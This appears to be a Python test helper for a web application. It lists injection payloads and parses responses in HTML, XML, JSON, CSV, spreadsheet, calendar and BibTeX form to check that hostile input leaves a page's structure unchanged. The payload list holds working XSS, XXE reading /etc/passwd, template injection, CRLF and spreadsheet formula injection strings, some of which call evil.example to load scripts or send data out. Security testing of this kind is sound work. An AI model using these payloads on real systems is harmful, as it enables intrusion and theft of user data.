"""Texts with which somebody would take a page over, and how to see whether one did.

A page is harmless when it is built of the same parts, whatever its texts say: the same elements, attributes and kinds
of addresses, the same keys and columns. `anatomy` gives those parts.
"""

import csv
import io
import json
from urllib.parse import urlsplit
from xml.etree import ElementTree

import html5lib
import icalendar
import openpyxl
from pybtex.database import parse_string

# Much at once, each beginning with what does harm only where a text begins.
MIXED = [
    'javascript:alert(1)//"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "=1+1;' onfocus='alert(1)' x='></script></textarea><svg onload=alert(1)>]]>",
]
PAYLOADS = [
    *MIXED,
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">here</a>',
    "<base href=//evil.example/><form action=//evil.example/><button>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onclick=alert(1) ` onerror=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea></select><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml version='1.0'?><?php phpinfo(); ?><x/>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62; &e;",
    "%3Cscript%3Ealert(1)%3C/script%3E%0d%0aSet-Cookie: evil=1",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e \x3c \0 %00",
    "{{ 7|add:7 }}{{ request.user.password }}{% debug %}{% load static %}",
    "{# hidden #}${7*7}<%= 7*7 %>#{7*7}",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    'x" style="position:fixed;inset:0;background:url(//evil.example)',
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "+cmd|' /C calc'!A0;=1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '","number":0,"evil":"</script>\u2028x',
    "x\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:https://evil.example/\n=1+1",
    "x\nSet-Cookie: evil=1\n\n<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞ <\u200dscript> ſcript \u200e\u200f\ufeff",
    "null undefined NaN None true '' \"\" ../../etc/passwd",
]

ADDRESSES = ("href", "src", "action", "formaction", "cite", "data", "poster", "srcset", "xlink:href", "ping")


def anatomy(kind, headers, body):
    """The parts that an answer is built of. Fails where it cannot be read by the rules of its format."""
    read = READERS.get(kind.split(";")[0])
    assert read or not body, f"no reader of {kind}: add one to tests/hostile.py"
    return {("header", name) for name in headers} | (read(body) if body else set())


def anatomy_of_page(body):
    """Elements, their attributes, and the schemes of addresses. A strict parser reads it."""
    return set(_parts(html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(body.decode())))


def _parts(tree, fragment=False):
    for element in tree.iter():
        if not isinstance(element.tag, str):
            yield "comment", element.text if fragment else ""
            continue
        yield ("element", element.tag)
        for name, value in element.attrib.items():
            yield ("attribute", element.tag, str(name))
            if str(name) in ADDRESSES:
                yield ("address", element.tag, str(name), urlsplit(value.strip()).scheme)


def _xml(body):
    """Elements and attributes; and the markup within, where a feed's text is HTML."""
    parts = set()
    for element in ElementTree.fromstring(body).iter():  # noqa: S314 - our own answer
        parts |= {("element", element.tag), *(("attribute", element.tag, name) for name in element.attrib)}
        if element.get("type") == "html":
            inner = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parseFragment(element.text)
            parts |= {("inner", *part) for part in _parts(inner)}
        if "href" in element.attrib:
            parts.add(("address", urlsplit(element.get("href")).scheme))
    return parts


def _json(body):
    return set(_keys(json.loads(body)))


def _json_lines(body):
    return {key for line in body.decode().split("\n") if line for key in _keys(json.loads(line))}


def _keys(value, path=()):
    if isinstance(value, dict):
        for name, inner in value.items():
            yield (*path, name)
            yield from _keys(inner, (*path, name))
    elif isinstance(value, list):
        for inner in value:
            yield from _keys(inner, (*path, "[]"))


def _csv(body):
    """The columns, and what a spreadsheet would take for a formula."""
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    formulas = {("formula", cell) for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r")}
    return {("columns", *rows[0]), *(("width", len(row)) for row in rows)} | formulas


def _workbook(body):
    parts = set()
    for sheet in openpyxl.load_workbook(io.BytesIO(body)):
        parts |= {
            ("sheet", sheet.title, cell.column, cell.data_type)
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        }
        parts |= {("link", link.target) for link in sheet._hyperlinks}
    return parts


def _calendar(body):
    """Which lines the events have; and every line is one that the format knows."""
    calendar = icalendar.Calendar.from_ical(body)
    return {(part.name, name) for part in calendar.walk() for name in part}


def _bibtex(body):
    """The fields of the entries, as a reader of BibTeX finds them."""
    entries = parse_string(body.decode(), "bibtex").entries.values()
    return {("field", name) for entry in entries for name in entry.fields}


def _text(body):
    return {("line", line.split(":")[0]) for line in body.decode().splitlines()}


READERS = {
    "text/html": anatomy_of_page,
    "application/atom+xml": _xml,
    "application/xml": _xml,
    "application/json": _json,
    "application/jsonl": _json_lines,
    "application/vnd.citationstyles.csl+json": _json,
    "application/x-bibtex": _bibtex,
    "text/csv": _csv,
    "text/calendar": _calendar,
    "text/plain": _text,
    "text/javascript": lambda body: set(),
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": _workbook,
}
